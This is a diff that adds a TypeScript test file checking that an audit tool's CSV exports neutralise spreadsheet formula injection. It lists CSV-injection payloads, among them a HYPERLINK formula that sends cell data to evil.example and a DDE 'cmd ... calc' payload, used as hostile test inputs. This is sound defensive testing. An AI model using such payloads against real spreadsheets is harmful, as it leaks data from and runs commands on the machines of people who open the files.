@@ -1,0 +1,233 @@
+// No CSV cell the project writes starts a formula (issue 34, OWASP "CSV Injection"): provider and
+// model names, hashes and timestamps are the audited party's to choose (any key-less edit of a body
+// plants one). Chains are written with names carrying every dangerous prefix before a generated
+// payload, exported as CSV (the view export) and searched for deleted rows (recover's
+// recovered.csv); every cell is parsed back (RFC 4180) and checked: none begins with `=`, `+`, `-`,
+// `@`, tab or CR, and each is the value written, with one leading `'` where it needed one.
+import Database from 'better-sqlite3'
+import { createHash, createHmac } from 'node:crypto'
+import { mkdirSync, readFileSync } from 'node:fs'
+import { join } from 'node:path'
+import { afterAll, describe, expect, it } from 'vitest'
+import { csvCell, FORMULA_START } from '../../../src/main/base/csv'
+import { dispatch } from '../../../src/main/handlers/dispatch'
+import { createHandlers } from '../../../src/main/handlers/table'
+import { AuditSession } from '../../../src/main/session/session'
+import { parseSecrets } from '../../../src/main/chain/keys'
+import { recoverFile } from '../../../src/main/recovery/verdict'
+import { writeCaseFile } from '../../../src/main/recovery/case-file'
+import { tempDir } from '../server/testkit'
+
+const KEY = Buffer.from('csv-injection-key-0123456789', 'utf8')
+const tmp = tempDir('bijotel-csv-injection-')
+
+afterAll(() => tmp.cleanup())
+
+const PREFIXES = ['=', '+', '-', '@', '\t', '\r', '==', '=-', '@@', ' =', '\t=', '\r\n=']
+const PAYLOADS = [
+  'HYPERLINK("http://evil.example/?leak="&A1,"click")',
+  'SUM(1,2)',
+  '1+1',
+  "cmd|' /C calc'!A0",
+  '2',
+  'x"y,z',
+  '',
+]
+
+/** Every prefix before every payload: the names a hostile writer could give providers and models. */
+export function hostileNames(): string[] {
+  return PREFIXES.flatMap((p) => PAYLOADS.map((x) => p + x)).filter((s) => s !== '')
+}
+
+/** RFC 4180 parse of `text` into rows of cells (quoted cells may hold commas, quotes and newlines). */
+function parseCsv(text: string): string[][] {
+  const rows: string[][] = []
+  let row: string[] = []
+  let cell = ''
+  let quoted = false
+  let i = 0
+  while (i < text.length) {
+    const c = text[i]!
+    if (quoted) {
+      if (c === '"' && text[i + 1] === '"') {
+        cell += '"'
+        i += 2
+        continue
+      }
+      if (c === '"') {
+        quoted = false
+        i++
+        continue
+      }
+      cell += c
+      i++
+      continue
+    }
+    if (c === '"' && cell === '') {
+      quoted = true
+      i++
+    } else if (c === ',') {
+      row.push(cell)
+      cell = ''
+      i++
+    } else if (c === '\r' && text[i + 1] === '\n') {
+      row.push(cell)
+      rows.push(row)
+      row = []
+      cell = ''
+      i += 2
+    } else if (c === '\n') {
+      row.push(cell)
+      rows.push(row)
+      row = []
+      cell = ''
+      i++
+    } else {
+      cell += c
+      i++
+    }
+  }
+  if (cell !== '' || row.length > 0) {
+    row.push(cell)
+    rows.push(row)
+  }
+  return rows
+}
+
+/** A chain whose rows carry `names` as provider and model (sealed with KEY, as the reference does). */
+function writeChain(path: string, names: string[], deleteFrom?: number): void {
+  const db = new Database(path)
+  try {
+    db.pragma('journal_mode = DELETE')
+    db.pragma('secure_delete = OFF')
+    db.exec(`CREATE TABLE chain (
+      seq INTEGER PRIMARY KEY AUTOINCREMENT, timestamp_ns INTEGER NOT NULL, trace_id TEXT NOT NULL,
+      span_id TEXT NOT NULL, span_name TEXT NOT NULL, span_kind TEXT, canonical_body BLOB NOT NULL,
+      canonical_hash TEXT NOT NULL, prev_hash TEXT NOT NULL, hmac_hash TEXT NOT NULL, semantic_body_hash TEXT)`)
+    const insert = db.prepare(
+      `INSERT INTO chain (seq, timestamp_ns, trace_id, span_id, span_name, span_kind, canonical_body, canonical_hash, prev_hash, hmac_hash)
+       VALUES (?, ?, ?, ?, ?, 'CLIENT', ?, ?, ?, ?)`,
+    )
+    let prev = '0'.repeat(64)
+    db.transaction(() => {
+      names.forEach((name, i) => {
+        const start = 1_700_000_000_000_000_000n + BigInt(i) * 1_000_000_000n
+        const end = start + 100_000_000n
+        // Keys in JCS order (RFC 8785 §3.2.3): the body is canonical, as the reference writes it.
+        const body = Buffer.from(
+          JSON.stringify({
+            attributes: {
+              'gen_ai.provider.name': name,
+              'gen_ai.request.model': [...name].reverse().join(''),
+              'gen_ai.usage.input_tokens': 10,
+              'gen_ai.usage.output_tokens': 5,
+            },
+            end_time_ns: String(end),
+            kind: 'CLIENT',
+            name: `chat ${i}`,
+            start_time_ns: String(start),
+            status_code: 'OK',
+            status_description: null,
+          }),
+          'utf8',
+        )
+        const ch = createHash('sha256').update(body).digest('hex')
+        const mac = createHmac('sha256', KEY)
+          .update(prev + ch, 'utf8')
+          .digest('hex')
+        insert.run(
+          i + 1,
+          end,
+          (i + 1).toString(16).padStart(32, '0'),
+          (i + 1).toString(16).padStart(16, '0'),
+          `chat ${i}`,
+          body,
+          ch,
+          prev,
+          mac,
+        )
+        prev = mac
+      })
+    })()
+    if (deleteFrom !== undefined) db.prepare('DELETE FROM chain WHERE seq >= ?').run(deleteFrom)
+  } finally {
+    db.close()
+  }
+}
+
+/** Every cell of `csv` past the header: none starts a formula; each reads back as a value written. */
+function checkCells(csv: string, written: Set<string>): number {
+  const rows = parseCsv(csv)
+  let restored = 0
+  for (const row of rows.slice(1)) {
+    for (const cell of row) {
+      expect(FORMULA_START.test(cell), JSON.stringify(cell)).toBe(false)
+      if (cell.startsWith("'") && written.has(cell.slice(1))) restored++
+    }
+  }
+  return restored
+}
+
+describe('the cell encoder', () => {
+  it('prefixes exactly the cells that start a formula, and keeps the value', () => {
+    for (const v of [...hostileNames(), 'anthropic', '12', 'a=b', "'quoted", '']) {
+      const enc = csvCell(v)
+      const back = parseCsv(enc + '\r\n')[0]?.[0] ?? ''
+      expect(FORMULA_START.test(back), JSON.stringify(v)).toBe(false)
+      expect(back).toBe(FORMULA_START.test(v) ? `'${v}` : v)
+    }
+  })
+})
+
+describe('the view export (exportView, CSV) of chains carrying hostile names', () => {
+  const names = hostileNames()
+  it(`${names.length} names with every dangerous prefix: no cell starts a formula, every name reads back`, async () => {
+    const path = join(tmp.dir, 'hostile.db')
+    writeChain(path, names)
+    const session = new AuditSession({})
+    try {
+      session.keys = parseSecrets([{ encoding: 'hex', value: KEY.toString('hex') }])
+      await session.open(path)
+      const table = createHandlers(session)
+      const r = await dispatch(table, 'exportView', { format: 'csv' }, { transport: 'ipc', trusted: true })
+      if (!r.ok) throw new Error(r.error.error)
+      const { content, rows } = r.value as { content: string; rows: number }
+      expect(rows).toBe(names.length)
+      const written = new Set([...names, ...names.map((n) => [...n].reverse().join(''))])
+      // Every provider and model name came back, neutralised.
+      expect(checkCells(content, written)).toBeGreaterThanOrEqual(names.length)
+    } finally {
+      session.dispose()
+    }
+  })
+})
+
+describe("recover's case file (recovered.csv) of deleted hostile rows", () => {
+  it('no cell starts a formula', () => {
+    const names = hostileNames()
+    mkdirSync(join(tmp.dir, 'evidence'))
+    const path = join(tmp.dir, 'evidence', 'deleted.db')
+    writeChain(path, names, 5)
+    const result = recoverFile(path, parseSecrets([{ encoding: 'hex', value: KEY.toString('hex') }]))
+    const rows = [
+      ...result.rows.map((r) => ({ ...r, uncommitted_only: false })),
+      ...result.uncommitted.map((r) => ({ ...r, uncommitted_only: true })),
+    ]
+    expect(rows.length).toBeGreaterThan(0)
+    const out = join(tmp.dir, 'case')
+    writeCaseFile(out, path, rows)
+    checkCells(readFileSync(join(out, 'recovered.csv'), 'utf8'), new Set())
+    // And with the hostile values a forged row could carry in its text columns.
+    const forged = rows.map((r, i) => ({
+      ...r,
+      canonical_hash: names[i % names.length]!,
+      prev_hash: names[(i + 1) % names.length]!,
+      hmac_hash: `=${r.hmac_hash}`,
+      timestamp_ns: `-${i}`,
+    }))
+    const out2 = join(tmp.dir, 'case2')
+    writeCaseFile(out2, path, forged)
+    const restored = checkCells(readFileSync(join(out2, 'recovered.csv'), 'utf8'), new Set(names))
+    expect(restored).toBeGreaterThanOrEqual(forged.length)
+  })
+})
